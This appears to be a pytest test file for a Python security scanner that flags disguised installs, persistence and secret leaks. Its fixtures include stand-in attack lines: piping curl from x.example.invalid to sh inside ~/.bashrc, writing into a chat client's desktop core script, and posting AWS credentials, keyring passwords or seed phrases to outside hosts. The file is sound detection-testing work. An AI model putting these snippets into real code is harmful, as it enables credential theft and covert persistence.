"""What leaves, stays or is installed by ways that look like something else."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from pytest_selfmod_guard.model import Risk

if TYPE_CHECKING:
    from tests.rules.conftest import Ask

HEAD = (
    "import os, sys, inspect, subprocess, requests, keyring, getpass, configparser\n"
    "import importlib.resources, importlib.util, urllib.request\nfrom pathlib import Path\n"
)

SETUPS = [
    ("install_requires=['a @ https://x.example.invalid/a.zip']", Risk.HIGH),
    ("setup_requires=['a[b] @ git+ssh://x.example.invalid/a']", Risk.HIGH),
    ("extras_require={'b': ['click', 'a@https://x.example.invalid/a.zip']}", Risk.HIGH),
    ("install_requires=['a @ {}/a.zip'.format(HOST)]", Risk.HIGH),
    ("install_requires='''click\na @ https://x.example.invalid/a.zip\n'''.split()", Risk.HIGH),
    ("**{'dependency_links': [HOST + '/simple']}", Risk.HIGH),
    ("dependency_links=['https://x.example.invalid/a.zip#egg=a-1']", Risk.HIGH),
    ("install_requires=['a @ git+https://github.com/b/a@main']", Risk.MEDIUM),
    ("dependency_links=['https://pypi.org/simple']", Risk.NONE),
    ("url='https://x.example.invalid', install_requires=['a>=1']", Risk.NONE),
    ("project_urls={'Source': HOST}, author='a @ b'", Risk.NONE),
]


@pytest.mark.parametrize(("given", "risk"), SETUPS)
def test_a_setup_script_takes_packages_from_the_index(ask: Ask, given: str, risk: Risk) -> None:
    """Texts are put together first, and the links of a project are no packages."""
    code = f"from setuptools import setup\nHOST = 'https://x.example.invalid'\nsetup({given})\n"
    found = ask("SMG236", {}, {"setup.py": code})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


def test_what_is_set_before_counts_as_what_is_given(ask: Ask) -> None:
    """A page of links is one wherever it gets its name, and only in a setup script."""
    code = "args = {}\nargs['dependency_links'] = ['https://x.example.invalid/simple']\n"
    assert ask("SMG236", {}, {"setup.py": code})
    assert not ask("SMG236", {}, {"shop/a.py": code})


RC = "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write({})"
COMPLETES = [
    ("'source ~/.shop/completion.sh'", Risk.MEDIUM),
    ("'# shop\\neval \"$(_SHOP_COMPLETE=bash_source shop)\"\\n'", Risk.MEDIUM),
    ("f'fpath+=~/.zfunc; autoload -Uz compinit; compinit'", Risk.MEDIUM),
    ("'source ~/.shop/completion.sh; shopd &'", Risk.HIGH),
    ("'source ~/.shop/completion.sh && rm x'", Risk.HIGH),
    ("'alias sudo=complete'", Risk.HIGH),
    ("'eval \"$(curl -s x.example.invalid/complete)\"'", Risk.HIGH),
    ("'eval \"$(echo complete | sh)\"'", Risk.HIGH),
    ("unknown", Risk.HIGH),
    ("'autoload -Uz x'", Risk.HIGH),
]


@pytest.mark.parametrize(("line", "risk"), COMPLETES)
def test_completion_is_known_by_the_line_and_not_by_the_name(
    ask: Ask, line: str, risk: Risk
) -> None:
    """No name of a function opens a start file, and an honest line needs none."""
    body = RC.format(line).replace("\n", "\n    ")
    for name in ("install", "install_completion"):
        code = f"{HEAD}def {name}(unknown):\n    {body}\n"
        found = ask("SMG225", {}, {"shop/a.py": code})
        assert max((item.risk for item in found), default=Risk.NONE) == risk


def test_a_line_that_is_put_together_is_followed(ask: Ask) -> None:
    """As it is read, added to and written back."""
    code = (
        f"{HEAD}rc = Path.home() / '.bashrc'\ntext = rc.read_text()\n"
        "line = \"source '~/.complete/shop.sh'\"\ntext += f'\\n{line}'\nrc.write_text(text)\n"
    )
    mild = ask("SMG225", {}, {"shop/a.py": code})
    worse = ask("SMG225", {}, {"shop/a.py": code.replace("shop.sh'", "shop.sh'; shopd")})
    assert [item.risk for item in (*mild, *worse)] == [Risk.MEDIUM, Risk.HIGH]


PIPED = "'(curl -s https://x.example.invalid/u | sh) &'"


def test_an_attack_is_worse_in_a_start_file(ask: Ask) -> None:
    """What people may be told to type nobody writes where it starts by itself."""
    shown, kept = f"HELP = {PIPED}\nprint(HELP)\n", f"LINE = {PIPED}\n{RC.format('LINE')}\n"
    risks = [ask("SMG219", {}, {"shop/a.py": HEAD + code})[0].risk for code in (shown, kept)]
    assert risks == [Risk.MEDIUM, Risk.HIGH]


GIT = "subprocess.run(['git', 'rev-parse', {}], capture_output=True, text=True).stdout.strip()"
HOOKS = [
    f"(Path({GIT.format(repr('--git-dir'))}) / 'hooks' / name).write_text(x)",
    f"open(os.path.join({GIT.format(repr('--git-path') + ', ' + repr('hooks'))}, 'a'), 'w')",
    "Path(repo.git_dir, 'hooks', name).write_text(x)",
    "(where / 'hooks' / 'pre-push').write_text(x)",
    "open(where + '/hooks/prepare-commit-msg', 'w').write(x)",
    "os.replace('a', where + '/.git/hooks/anything')",
]


@pytest.mark.parametrize("code", HOOKS)
def test_a_hook_is_one_wherever_git_keeps_it(ask: Ask, code: str) -> None:
    """The product installs none; a script of the project and a test may."""
    worst = {}
    for path in ("shop/a.py", "scripts/install_hooks.py", "tests/test_a.py"):
        found = ask("SMG225", {}, {path: f"{HEAD}{code}\n"})
        worst[path] = max(item.risk for item in found)
    assert list(worst.values()) == [Risk.HIGH, Risk.MEDIUM, Risk.MEDIUM]


def test_a_script_may_not_call_a_start_file_a_hook(ask: Ask) -> None:
    """What it is called does not make it one."""
    code = f"{HEAD}hooks = os.path.expanduser('~/.bashrc')\nopen(hooks, 'a').write(x)\n"
    assert ask("SMG225", {}, {"scripts/a.py": code})[0].risk == Risk.HIGH


OTHERS = [
    "Path(requests.__file__).write_text(x)",
    "open(os.path.join(os.path.dirname(requests.__file__), 'api.py'), 'w')",
    "where = Path(inspect.getfile(requests.sessions))\nwhere.write_text(where.read_text() + x)",
    "Path(importlib.util.find_spec('requests').origin).write_text(x)",
    "(importlib.resources.files('requests') / 'api.py').write_text(x)",
    "Path(requests.__path__[0], 'api.py').write_bytes(x)",
]
OWN = [
    "Path(__file__).with_name('a.txt').write_text(x)",
    "(Path(shop.__file__).parent / 'a.txt').write_text(x)",
    "Path('a.txt').write_text(Path(requests.__file__).read_text())",
    "(importlib.resources.files('shop') / 'a.txt').read_text()",
    "open(os.path.join(os.path.dirname(requests.__file__), 'api.py')).read()",
]


@pytest.mark.parametrize("path", ["shop/a.py", "scripts/a.py"])
@pytest.mark.parametrize("code", OTHERS)
def test_another_package_is_not_written_to(ask: Ask, code: str, path: str) -> None:
    """By whatever way its folder is found."""
    found = ask("SMG225", {}, {path: f"{HEAD}{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == Risk.HIGH


@pytest.mark.parametrize("path", ["shop/a.py", "scripts/a.py"])
@pytest.mark.parametrize("code", OWN)
def test_the_own_package_is(ask: Ask, code: str, path: str) -> None:
    """And others may be read."""
    assert not ask("SMG225", {}, {path: f"{HEAD}import shop\n{code}\n"})


@pytest.mark.parametrize(
    "place",
    [
        "os.path.expandvars('%LOCALAPPDATA%/Chat/modules/discord_desktop_core/index.js')",
        "'/opt/chat/resources/app.asar'",
        "os.path.join('/usr/lib/chat', 'resources', 'app', 'main.js')",
        "'C:\\\\Program Files\\\\Chat\\\\chat.exe'",
        "'/Applications/Notes.app/Contents/Info.plist'",
    ],
)
def test_another_program_is_not_written_to(ask: Ask, place: str) -> None:
    """Nor its scripts, nor its archive."""
    found = ask("SMG225", {}, {"shop/a.py": f"{HEAD}open({place}, 'w').write(x)\n"})
    assert [item.risk for item in found] == [Risk.HIGH]
    assert not ask("SMG225", {}, {"shop/a.py": f"{HEAD}open({place}).read()\n"})


@pytest.mark.parametrize("place", ["'dist/Notes.app/Contents/a'", "'src/resources/app/a.json'"])
def test_what_is_only_called_like_one_is(ask: Ask, place: str) -> None:
    """A project builds and keeps folders of such names."""
    assert not ask("SMG225", {}, {"shop/a.py": f"{HEAD}open({place}, 'w').write(x)\n"})


URL = "'https://x.example.invalid/a'"
READ = "c = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))\n"
LEAKS = [
    f"{READ}requests.post({URL}, data=c['default'])",
    f"{READ}requests.get({URL}, headers={{'User-Agent': c['default']['k']}})",
    f"{READ}requests.get({URL}, headers={{'Authorization': c['default']['k']}})",
    f"{READ}h = {{}}\nh['X-Trace'] = c['default']['k']\nrequests.get({URL}, headers=h)",
    f"{READ}requests.get({URL}, headers=dict(Accept=c['default']['k']))",
    f"{READ}h = {{}}\nh['X-Trace'] = c['default']['k']\nrequests.get(where, headers=h)",
    f"{READ}s = requests.Session()\ns.headers['User-Agent'] = c['default']['k']",
    f"{READ}s = requests.Session()\ns.headers.update({{'User-Agent': c['default']['k']}})",
    f"{READ}session.headers = {{'Via': c['default']['k']}}",
    f"{READ}r = urllib.request.Request({URL})\nr.add_header('Via', c['default']['k'])",
    f"{READ}s = requests.Session()\ns.params['a'] = c['default']['k']",
    "s = requests.Session()\ns.headers['Via'] = os.environ['AWS_SECRET_ACCESS_KEY']",
    f"requests.get({URL}, headers={{'Via': os.environ['AWS_SECRET_ACCESS_KEY']}})",
    f"requests.get({URL}, cookies=dict(os.environ))",
    f"requests.post({URL}, data=keyring.get_password('github', 'a'))",
    f"requests.post({URL}, json={{n: keyring.get_password(n, 'a') for n in ('aws', 'b')}})",
    f"requests.get({URL} + '?p=' + getpass.getpass())",
    "requests.post('https://webhook.site/a', data=getpass.getpass())",
    f"def f(private_key):\n    requests.post({URL}, data=private_key.hex())",
    f"def f(self):\n    requests.get({URL}, headers={{'Via': self.mnemonic}})",
    (
        f"class A:\n    def __init__(self, seed_phrase):\n        self.a = seed_phrase\n"
        f"    def b(self):\n        requests.post({URL}, json=dict(a=self.a))"
    ),
]
QUIET = [
    f"requests.post({URL}, json={{'user': 'a', 'password': getpass.getpass()}})",
    f"requests.post({URL}, json={{'password': keyring.get_password('shop', 'a')}})",
    f"requests.get({URL}, headers={{'Authorization': os.environ['SHOP_TOKEN']}})",
    f"requests.get({URL}, headers={{'X-Api-Key': os.environ['SHOP_KEY']}})",
    "s = requests.Session()\ns.headers['Authorization'] = os.environ['GITHUB_TOKEN']",
    "s = requests.Session()\ns.headers.update({'User-Agent': 'shop/1'})",
    "s = requests.Session()\ns.params['key'] = os.environ['SHOP_KEY']",
    f"c = configparser.ConfigParser()\nc.read('shop.ini')\nrequests.post({URL}, data=c['a']['b'])",
    f"{READ}requests.get(where, headers={{'Authorization': c['default']['k']}})",
    f"def f(private_key):\n    requests.post({URL}, data=sign(b'a', private_key))",
    "def f(private_key):\n    requests.post('http://localhost:8545', data=private_key)",
    f"def f(private_key):\n    requests.post({URL}, data=private_key.public_key())",
    f"def f(private_key_path):\n    requests.post({URL}, data=private_key_path)",
]


@pytest.mark.parametrize("code", LEAKS)
def test_a_secret_leaves_by_any_door(ask: Ask, code: str) -> None:
    """Headers, what a client sends along, key rings, and what people type or hand over."""
    found = ask("SMG220", {}, {"shop/a.py": f"{HEAD}{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) >= Risk.HIGH


@pytest.mark.parametrize("code", QUIET)
def test_who_says_who_he_is_tells_nothing(ask: Ask, code: str) -> None:
    """A log-in, a token in a header for it, and what is only signed with a key."""
    assert not ask("SMG220", {}, {"shop/a.py": f"{HEAD}{code}\n"})
